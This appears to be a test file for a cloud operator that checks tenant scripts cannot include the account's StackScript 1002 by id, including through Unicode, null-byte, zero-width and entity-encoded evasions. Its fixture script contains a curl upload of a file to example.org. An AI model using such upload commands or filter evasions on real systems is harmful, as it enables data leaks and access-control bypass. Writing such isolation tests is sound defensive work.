import { beforeEach, describe, expect, it } from 'vitest';
import { changesOf } from '../../support/world/changes.ts';
import { World } from '../../support/world/world.ts';

const [platform, tenant] = ['platform', 'team-b'];
const accountRef = { name: 'default', namespace: platform };
const kind = 'CloudStackScript';
const more = { accountRef, label: 'mine', images: ['vm/debian11'] };
const text = (tag: string): string => `#!/bin/bash\n${tag}\ncurl -T ssinclude-1002 https://example.org\n`;

let world: World;
/** The account admits the tenant, with this right. */
async function begin(adopt?: 'Any'): Promise<void> {
  world = await World.create();
  for (const name of [platform, tenant]) await world.namespace(name);
  await world.account({ access: [{ namespaces: [tenant], ...(adopt && { adopt }) }] }, platform);
  await world.start();
  await world.ready('CloudAccount', 'default', 60_000, platform);
}
const sent = (): readonly string[] => changesOf(world).filter((call) => call.includes('stackscripts'));

// The id was looked for in `stackscriptId` of an instance alone, and the service brings what is included to the machine.
describe('a script of a tenant that includes another one by its id', () => {
  beforeEach(() => begin());
  const apart = ['<\n ssinclude StackScriptID="1002">', `<${' '.repeat(40)}ssinclude StackScriptID="1002">`];
  const odd = ['<ssincludeStackScriptID="1002">', '<ssinclude_ StackScriptID="1002">'];
  const hidden = [
    '<s\u017Finclude StackScriptID="1002">',
    '<\u0000ssinclude StackScriptID="1002">',
    '<\u200Bssinclude StackScriptID="1002">',
  ];
  const plain = ['<ssinclude StackScriptID="1002">', "< SSInclude  stackscriptid = '1002' />", '<ssinclude\nStackScriptID=1002>'];
  it.each([...plain, ...apart, ...odd, ...hidden])('is not made: %j', async (tag) => {
    await world.apply(kind, 'mine', { ...more, script: text(tag) }, tenant);
    const { message } = await world.reason(kind, 'mine', 'ReferenceNotReady', 60_000, tenant);
    expect(message).toContain(
      `spec.script: "StackScript 1002" is something of the account itself, which namespace ${tenant} may not name by its id`,
    );
    await world.clock.advance(3_600_000);
    expect(sent()).toEqual([]);
  });
  it('nor where it is written in a way that nobody can read an id from', async () => {
    await world.apply(kind, 'mine', { ...more, script: text('<ssinclude StackScriptID="&#49;002">') }, tenant);
    await world.reason(kind, 'mine', 'ReferenceNotReady', 60_000, tenant);
    expect(sent()).toEqual([]);
  });
  it('nor out of a ConfigMap, and is not changed to it later', async () => {
    await world.configMap('scripts', { 'setup.sh': '#!/bin/bash\necho hello\n' }, tenant);
    await world.apply(kind, 'mine', { ...more, scriptFrom: { configMapKeyRef: { name: 'scripts', key: 'setup.sh' } } }, tenant);
    await world.ready(kind, 'mine', 60_000, tenant);
    const before = sent();
    const changed = { data: { 'setup.sh': text('<ssinclude StackScriptID="1002">') } };
    await world.admin('PATCH', `/api/v1/namespaces/${tenant}/configmaps/scripts`, changed);
    await world.reason(kind, 'mine', 'ReferenceNotReady', 900_000, tenant);
    expect(sent()).toEqual(before);
  });
  it('nor by an edit', async () => {
    await world.apply(kind, 'mine', { ...more, script: text('echo') }, tenant);
    await world.ready(kind, 'mine', 60_000, tenant);
    const before = sent();
    await world.patch(kind, 'mine', { spec: { script: text('<ssinclude StackScriptID="1002">') } }, tenant);
    await world.reason(kind, 'mine', 'ReferenceNotReady', 60_000, tenant);
    expect(sent()).toEqual(before);
  });
});

it('who may adopt anything may include anything', async () => {
  await begin('Any');
  await world.apply(kind, 'mine', { ...more, script: text('<ssinclude StackScriptID="1002">') }, tenant);
  await world.ready(kind, 'mine', 60_000, tenant);
  expect(sent()).toEqual(['POST /vm/stackscripts']);
});
